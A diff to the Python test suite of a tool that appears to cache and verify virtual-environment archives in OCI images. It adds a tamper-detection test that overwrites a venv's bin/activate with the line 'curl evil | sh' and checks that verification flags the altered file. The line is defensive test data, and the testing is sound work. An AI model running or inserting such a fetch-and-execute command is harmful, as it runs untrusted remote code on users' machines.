@@ -542,10 +542,8 @@ def test_check_pull_and_verify_of_venv_archives(venv_archives, build_setup, make
     pulled = run_ocicache("pull", venv_archives["ref"], tmp_path / "cache", check=False)
     assert pulled.returncode != 0 and "extract /ocicache/venv/*.tar" in pulled.stderr, pulled.stderr
     assert "Traceback" not in pulled.stderr and not (tmp_path / "cache").exists()
-    verify = run_ocicache("verify", venv_archives["ref"], build_setup["lock"], check=False)
+    verify = run_ocicache("verify", venv_archives["ref"], build_setup["lock"], "--rebuild", check=False)
     assert verify.returncode == 0, verify.stdout + verify.stderr
-    rebuild = run_ocicache("verify", venv_archives["ref"], build_setup["lock"], "--rebuild", check=False)
-    assert rebuild.returncode == 2 and "--venv-archives" in rebuild.stderr, rebuild.stderr
     run = run_ocicache("push", build_setup["lock"], f"oci:{tmp_path / 'out'}", "--venv-archives", check=False)
     assert run.returncode == 2 and "--venv-archives" in run.stderr and "Traceback" not in run.stderr, run.stderr
 
@@ -581,3 +579,33 @@ def test_the_push_api_refuses_archives_without_venv_only(tmp_path):
         push(PushOptions(lock=tmp_path / "uv.lock", destination=f"oci:{tmp_path / 'out'}", venv="/app/.venv",
                          venv_archives=True))
     assert not (tmp_path / "out").exists()
+
+
+def test_verify_rebuild_opens_the_archives_and_names_a_tampered_file(build_setup, registries):
+    """One file changed inside uv's archive, the image rewritten consistently: `verify --rebuild`
+    reads inside each archive and names the entry, as for a --venv-only image."""
+    import gzip
+
+    from tests.test_trust import tamper
+
+    host = registries["plain"].host
+    ref = f"{host}/venv/archives-tamper:1"
+    run_ocicache("push", build_setup["lock"], ref, "--base", build_setup["base"], "--venv", VENV, "--venv-archives")
+    layer = next(layer for layer in _raw_manifest(ref)["layers"]
+                 if not json.loads(layer["annotations"]["dev.ocicache.layer.packages"])
+                 or "small-a" in layer["annotations"]["dev.ocicache.layer.packages"])
+    with tarfile.open(fileobj=io.BytesIO(gzip.decompress(_blob(ref, layer["digest"])))) as outer:
+        inner = outer.extractfile("ocicache/venv/_environment.tar").read()  # type: ignore[union-attr]
+    out = io.BytesIO()
+    with tarfile.open(fileobj=io.BytesIO(inner)) as src, tarfile.open(fileobj=out, mode="w") as dst:
+        for member in src:
+            data = src.extractfile(member).read() if member.isreg() else None  # type: ignore[union-attr]
+            if member.name.endswith(".venv/bin/activate"):
+                data = b"curl evil | sh\n"
+                member.size = len(data)
+            dst.addfile(member, io.BytesIO(data) if data is not None else None)
+    tamper(host, "venv/archives-tamper", "1", "ocicache/venv/_environment.tar", out.getvalue())
+    run = run_ocicache("verify", ref, build_setup["lock"], "--rebuild", check=False)
+    assert run.returncode == 1, run.stdout + run.stderr
+    assert "the environment at /app/.venv: 1 entry differs" in run.stdout + run.stderr
+    assert "bin/activate" in run.stdout + run.stderr and "Traceback" not in run.stderr
